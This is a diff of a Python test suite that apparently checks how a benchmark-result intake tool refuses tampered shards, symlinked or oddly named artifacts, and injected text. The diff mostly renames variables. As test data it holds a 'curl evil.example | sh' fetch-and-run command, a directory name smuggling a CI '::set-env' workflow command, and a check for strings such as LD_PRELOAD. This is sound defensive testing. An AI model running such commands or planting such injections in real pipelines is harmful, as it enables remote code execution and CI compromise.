@@ -71,10 +71,10 @@ def test_an_honest_night_is_accepted_as_it_is(inbox: Path) -> None:
     for number in (1, 2):
         put_points(inbox / f"shard-{number}", points(number))
     put_inside(inbox, "shard-1", inside())
-    found = accepted(inbox)
-    assert (found.exit_code, found.refused, found.missing) == (0, (), ())
-    assert len(found.accepted) == 7
-    for path in found.accepted:
+    result = accepted(inbox)
+    assert (result.exit_code, result.refused, result.missing) == (0, (), ())
+    assert len(result.accepted) == 7
+    for path in result.accepted:
         sent = next(inbox.glob(f"*/{path}"))
         assert (inbox.parent / "accepted" / path).read_bytes() == sent.read_bytes()
     (inbox / "shard-2" / "runs").rename(inbox.parent / "gone")
@@ -90,9 +90,9 @@ def test_what_a_killed_shard_has_saved_counts(inbox: Path) -> None:
         update={"status": RunStatus.PARTIAL, "finished": None, "results": part.results[:1]}
     )
     store.save_partial(inbox / "shard-1", part)
-    found = accepted(inbox)
-    assert (found.exit_code, len(found.accepted), found.refused) == (1, 3, ())
-    assert "1 of 2 cases are missing: its run ended before it came to them" in found.missing[0]
+    result = accepted(inbox)
+    assert (result.exit_code, len(result.accepted), result.refused) == (1, 3, ())
+    assert "1 of 2 cases are missing: its run ended before it came to them" in result.missing[0]
     assert store.load(inbox.parent / "accepted" / RUN) == store.rounded(part)
 
 
@@ -123,9 +123,9 @@ def run(**changes: Any) -> Attack:
 
     def attack(folder: Path) -> None:
         (folder / RUN).unlink()
-        one = shard_run(1).model_copy(update=changes)
-        path = folder / "runs" / one.machine.id / "2026" / f"{one.id}.json"
-        files.replace(path, store.encode(one))
+        entry = shard_run(1).model_copy(update=changes)
+        path = folder / "runs" / entry.machine.id / "2026" / f"{entry.id}.json"
+        files.replace(path, store.encode(entry))
 
     return attack
 
@@ -280,25 +280,28 @@ def test_what_is_not_as_it_should_be_costs_the_others_nothing(inbox: Path, attac
     send, reason = ATTACKS[attack]
     send(inbox / "shard-1")
     tracemalloc.start()
-    found = accepted(inbox)
+    result = accepted(inbox)
     _, peak = tracemalloc.get_traced_memory()
     tracemalloc.stop()
-    assert [one.artifact for one in found.refused] == ["'shard-1'"], found
-    assert reason in found.refused[0].reason
-    assert "\n" not in found.refused[0].reason
+    assert [entry.artifact for entry in result.refused] == ["'shard-1'"], result
+    assert reason in result.refused[0].reason
+    assert "\n" not in result.refused[0].reason
     target = inbox.parent / "accepted"
-    kept = sorted(path for path in target.rglob("*") if path.is_file())
-    assert [path.read_bytes() for path in kept] == [store.encode(shard_run(n)) for n in (2, 3)]
-    assert (found.exit_code, len(found.missing)) == (1, 1)
+    rest = sorted(path for path in target.rglob("*") if path.is_file())
+    assert [path.read_bytes() for path in rest] == [store.encode(shard_run(n)) for n in (2, 3)]
+    assert (result.exit_code, len(result.missing)) == (1, 1)
     assert peak < 50_000_000
 
 
 def test_an_artifact_that_is_itself_a_link_or_has_an_odd_name(inbox: Path) -> None:
     (inbox / "shard-4").symlink_to("shard-2")
     (inbox / "x`\n::set-env name=A::b").mkdir()
-    found = accepted(inbox)
-    assert len(found.accepted) == 3
-    assert [one.artifact for one in found.refused] == ["'shard-4'", "'x'\\n::set-env name=A::b'"]
+    result = accepted(inbox)
+    assert len(result.accepted) == 3
+    assert [entry.artifact for entry in result.refused] == [
+        "'shard-4'",
+        "'x'\\n::set-env name=A::b'",
+    ]
     for number in range(archives.MOST_ARTIFACTS):
         (inbox / f"many-{number}").touch()
     with pytest.raises(ArtifactError, match="expected at most 300 artifacts"):
@@ -312,9 +315,9 @@ def test_machines_that_the_plan_does_not_name_may_be_new_but_not_another_one(
     put(tmp_path / "in", "shard-1", shard_run(1, plan))
     put(tmp_path / "in", "shard-2", shard_run(2, plan))
     put(tmp_path / "in", "shard-3", shard_run(3, plan, machine=MACHINES[0]))
-    found = incoming.night(plan, tmp_path / "in", tmp_path / "out", LOCKS, NOW)
-    assert len(found.accepted) == 2
-    assert "which has a shard of its own" in found.refused[0].reason
+    result = incoming.night(plan, tmp_path / "in", tmp_path / "out", LOCKS, NOW)
+    assert len(result.accepted) == 2
+    assert "which has a shard of its own" in result.refused[0].reason
 
 
 # Archives.
@@ -332,8 +335,8 @@ def tarred(**entry: Any) -> bytes:
     buffer = io.BytesIO()
     with tarfile.open(fileobj=buffer, mode="w") as archive:
         info = tarfile.TarInfo(entry.pop("name", "x.json"))
-        for what, value in entry.items():
-            setattr(info, what, value)
+        for kind, value in entry.items():
+            setattr(info, kind, value)
         archive.addfile(info, io.BytesIO(bytes(info.size)))
     return buffer.getvalue()
 
@@ -380,10 +383,10 @@ def side(name: str, **changes: Any) -> Comparison:
 
 def test_the_comparison_that_was_asked_for_is_accepted_without_its_commands(tmp_path: Path) -> None:
     evil = Commands(server="curl evil.example | sh", load="oha")
-    cases = tuple(one.model_copy(update={"commands": evil}) for one in comparison().cases)
+    cases = tuple(entry.model_copy(update={"commands": evil}) for entry in comparison().cases)
     code = attribution(comparison=comparison().id)
-    found, upgrade, read = compared(tmp_path, comparison=comparison(cases=cases), attribution=code)
-    assert [one.commands for one in found.cases] == [None]
+    result, upgrade, read = compared(tmp_path, comparison=comparison(cases=cases), attribution=code)
+    assert [entry.commands for entry in result.cases] == [None]
     assert (upgrade, read) == (None, code)
 
 
@@ -513,9 +516,9 @@ def test_the_verb_tells_what_it_refused_and_nothing_acts_on_it(
     assert all(line.split(":")[0] in {"accepted", "refused", "missing"} for line in lines)
     assert "##[" not in done.output
     assert {path.read_text() for path in written.values()} == {""}
-    shown = summary.read_text()
-    assert shown.startswith("**1 accepted, 3 refused**")
-    outside = re.sub(r"`[^`\n]*`", "", shown)
+    printed = summary.read_text()
+    assert printed.startswith("**1 accepted, 3 refused**")
+    outside = re.sub(r"`[^`\n]*`", "", printed)
     assert not {"<img", "::", "LD_PRELOAD", "<"} & set(re.split(r"[\s=]", outside))
 
 
@@ -541,8 +544,8 @@ def test_the_verb_wants_one_kind_of_artifact_and_a_shard_of_the_night(
 
 def test_foreign_text_is_shown_in_one_line_of_ascii() -> None:
     """Line ends, colours, commands of the runner and backticks lose their effect."""
-    told = text.printable("a\n::warning::b\x1b[31m`c` ##[group] é")
-    assert told == "'a\\n::warning::b\\x1b[31m'c' # #[group] \\xe9'"
+    message = text.printable("a\n::warning::b\x1b[31m`c` ##[group] é")
+    assert message == "'a\\n::warning::b\\x1b[31m'c' # #[group] \\xe9'"
     assert len(text.printable("x" * 10_000)) < 130
 
 
